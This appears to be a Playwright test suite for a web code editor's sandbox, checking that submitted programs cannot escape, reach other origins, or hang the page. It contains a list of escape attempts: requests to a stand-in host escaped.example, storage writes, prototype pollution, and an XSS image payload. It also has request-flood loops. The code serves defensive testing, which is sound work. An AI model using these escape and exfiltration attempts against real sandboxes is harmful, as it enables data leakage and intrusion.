import type { Page } from '@playwright/test'
import { expect, hydrated, test } from '../../support/test'
import { visitEditor } from './open-editor'

const PAGE = '/developer/json-rpc'
const TITLE = 'prices.ts'
const FOREIGN = 'https://escaped.example/'

/** Tries to leave a trace outside: in the page, in its storage, in its address and at another origin. */
const ESCAPES = `
const attempts = [
  () => { document.title = 'escaped' },
  () => { parent.document.title = 'escaped' },
  () => { top.location.hash = 'escaped' },
  () => { parent.postMessage('escaped', '*') },
  () => { localStorage.setItem('escaped', 'yes') },
  () => { indexedDB.open('escaped') },
  () => { Object.prototype.escaped = 'yes' },
  () => { Object.getPrototypeOf(Object.getPrototypeOf(self)).constructor.prototype.escaped = 'yes' },
  () => { new BroadcastChannel('escaped').postMessage('escaped') },
  () => { void self.fetch('${FOREIGN}fetch').catch(() => undefined) },
  () => { navigator.sendBeacon('${FOREIGN}beacon') },
  () => { new XMLHttpRequest().open('GET', '${FOREIGN}xhr') },
  () => { new WebSocket('wss://escaped.example/') },
  () => { importScripts('${FOREIGN}import.js') },
  () => { new Worker(URL.createObjectURL(new Blob(['fetch("${FOREIGN}nested")']))) },
  () => { new Function('return import("${FOREIGN}function.js")')() },
  () => { (0, eval)('import("${FOREIGN}eval.js")') },
  () => { open('${FOREIGN}open') },
  () => { postMessage({ kind: 'account', address: '<img src=x onerror=alert(1)>' }) },
]
for (const attempt of attempts) try { await attempt() } catch {}
`

type Traces = {
  title: boolean
  hash: boolean
  stored: boolean
  polluted: boolean
  heard: string[]
  foreign: string[]
}

/** Watches for traces of an escape. Out: those so far. */
async function watchTraces(page: Page): Promise<() => Promise<Traces>> {
  const foreign: string[] = []
  await page.context().route(`${FOREIGN}**`, (route) => {
    foreign.push(route.request().url())
    return route.abort()
  })
  await page.evaluate(() => {
    const heard: string[] = []
    const titles: string[] = [] // the page writes its own title again
    Object.assign(window, { heard, titles })
    const watcher = new MutationObserver(() => void titles.push(document.title))
    watcher.observe(document.head, { subtree: true, childList: true, characterData: true })
    addEventListener('message', ({ data }) => void heard.push(String(data)))
    new BroadcastChannel('escaped').onmessage = ({ data }) => void heard.push(`channel: ${data}`)
  })
  return async () => ({
    foreign,
    ...(await page.evaluate(async () => {
      const { heard, titles } = window as unknown as Record<'heard' | 'titles', string[]> // set above
      return {
        title: titles.includes('escaped'),
        hash: location.hash === '#escaped',
        stored:
          'escaped' in { ...localStorage } ||
          (await indexedDB.databases()).some(({ name }) => name === 'escaped'),
        polluted: 'escaped' in {},
        heard,
      }
    })),
  })
}

const NOTHING: Traces = { title: false, hash: false, stored: false, polluted: false, heard: [], foreign: [] }

for (const [name, imports] of [
  ['', ''],
  [' with every package', "import 'ethers'\nimport 'wagmi'\nimport 'node:http'\n"],
] as const)
  test(`a program${name} that tries every way out leaves no trace, and the page stays usable`, async ({
    page,
    allowed,
  }) => {
    allowed.push(/Content Security Policy/i) // what the program provokes
    const { code, run, answer, output } = await visitEditor(page, PAGE, TITLE)
    const readTraces = await watchTraces(page)
    await code.fill(`${imports}${ESCAPES}\nconsole.log('tried')`)
    await run.click()
    await expect(output).toHaveText('tried')
    await expect(answer).toContainText('Ended at')
    expect(await readTraces()).toEqual(NOTHING)
    await code.fill("console.log('usable')")
    await run.click()
    await expect(output).toHaveText('usable')
  })

test('control: the same program in the page itself, without its policy, leaves every kind of trace', async ({
  page,
  allowed,
}) => {
  allowed.push(/./) // it fails in many ways, and calls other origins
  await page.route(PAGE, async (route) => {
    const response = await route.fetch()
    const { 'content-security-policy': policy, ...headers } = response.headers()
    expect(policy).toContain("frame-src 'self'")
    await route.fulfill({ response, headers })
  })
  await page.goto(PAGE)
  await hydrated(page)
  const readTraces = await watchTraces(page)
  await page.evaluate(`(async () => {${ESCAPES}})()`)
  await expect
    .poll(async () => (await readTraces()).foreign)
    .toEqual(expect.arrayContaining([`${FOREIGN}fetch`, `${FOREIGN}nested`]))
  const { heard, foreign, ...others } = await readTraces()
  expect(others).toEqual({ title: true, hash: true, stored: true, polluted: true })
  expect(heard).toContain('escaped')
  expect(foreign.length).toBeGreaterThan(2)
})

for (const [name, program] of [
  ['an endless loop', 'for (;;) {}'],
  [
    'an endless chain of promises',
    'const again = (): Promise<void> => Promise.resolve().then(again)\nawait again()',
  ],
  ['an endless interval', 'setInterval(() => undefined, 1)'],
  ['a worker that closes itself', 'self.close()\nawait new Promise(() => undefined)'],
] as const)
  test(`${name} can be stopped, and the page stays usable`, async ({ page }) => {
    const { code, run, stop, answer, output } = await visitEditor(page, PAGE, TITLE)
    await code.fill(program)
    await run.click()
    await expect(answer).toContainText('Running…')
    await stop.click()
    await expect(answer).toBeEmpty()
    await code.fill("console.log('usable')")
    await run.click()
    await expect(output).toHaveText('usable')
  })

test('an endless loop is ended after its time', async ({ page }) => {
  await page.clock.install()
  const { code, run, answer } = await visitEditor(page, PAGE, TITLE)
  await code.fill('for (;;) {}')
  await run.click()
  await expect(answer).toContainText('Running…')
  await expect(async () => {
    await page.clock.runFor(30_000) // the sandbox's clock too
    await expect(answer).toContainText('The program was stopped after 30 seconds.', { timeout: 1000 })
  }).toPass()
})

for (const [name, program, words] of [
  ['endless lines', "for (;;) console.log('x')", 'printed more than 1,000 lines'],
  ['one endless line', "console.log('x'.repeat(5_000_000))", 'printed or sent more than 100,000 characters'],
  ['a flood of requests', "for (;;) void fetch('https://escaped.example/')", 'printed or sent too often'],
  ['a flood of empty output', "for (;;) console.log('')", 'printed or sent too often'],
] as const)
  test(`${name} are ended at a limit, and the page stays usable`, async ({ page }) => {
    const { code, run, answer, output } = await visitEditor(page, PAGE, TITLE)
    await code.fill(program)
    await run.click()
    await expect(answer).toContainText(words)
    await code.fill("console.log('usable')")
    await run.click()
    await expect(output).toHaveText('usable')
  })

for (const [name, program, words] of [
  ['the page', 'document.title', 'document is not defined'],
  ['the page above', 'top.location', 'top is not defined'],
  ['its parent', 'for (;;) parent.postMessage(1)', 'parent is not defined'],
  ['storage', 'localStorage.length', 'localStorage is not defined'],
  ['another worker', "new Worker('x')", 'Worker is not defined'],
  ['scripts of others', "importScripts('https://escaped.example/x.js')", 'importScripts is not defined'],
  ['modules of others', "await import('https://escaped.example/x.js')", "isn't available in the page"],
  ['evaluation', "eval('1')", 'EvalError'],
  ['another origin', "await fetch('https://escaped.example/')", "can't be reached from this page"],
  ['files of the site', "await fetch('/sitemap.xml')", "can't be reached from this page"],
] as const)
  test(`${name} cannot be reached, and the program is told so`, async ({ page, allowed }) => {
    allowed.push(/Content Security Policy/i)
    const { code, run, answer } = await visitEditor(page, PAGE, TITLE)
    await code.fill(program)
    await run.click()
    await expect(answer).toContainText(words)
    await expect(answer).toContainText('Error in line 1')
  })

test('a program that changes what it shares with the sandbox harms only itself', async ({ page }) => {
  const { code, run, output, answer } = await visitEditor(page, PAGE, TITLE)
  await code.fill(
    "Array.prototype.map = Array.prototype.push = () => { throw 'mine' }\nObject.defineProperty(Object.prototype, 'kind', { value: 'over' })\nconsole.log('x')",
  )
  await run.click()
  await expect(answer).not.toContainText('Running…')
  await code.fill("console.log([1].map(String), 'kind' in {})")
  await run.click()
  await expect(output).toHaveText("[ '1' ] false")
})

test('the sandbox as a page of its own has no origin, and frames nothing', async ({ page, allowed }) => {
  allowed.push(/Content Security Policy/i)
  await page.goto('/sandbox')
  expect(await page.evaluate(() => origin)).toBe('null')
  await expect(page.evaluate(() => localStorage.length)).rejects.toThrow('sandboxed')
})

test('control: no other page of the site can be framed', async ({ page, allowed }) => {
  allowed.push(/frame-ancestors/)
  await page.goto(PAGE)
  await hydrated(page)
  const blocked = page.waitForEvent('console', (message) => /frame-ancestors/.test(message.text()))
  await page.evaluate(() => {
    const frame = document.createElement('iframe')
    frame.src = '/developer/viem'
    document.body.append(frame)
  })
  await blocked
})
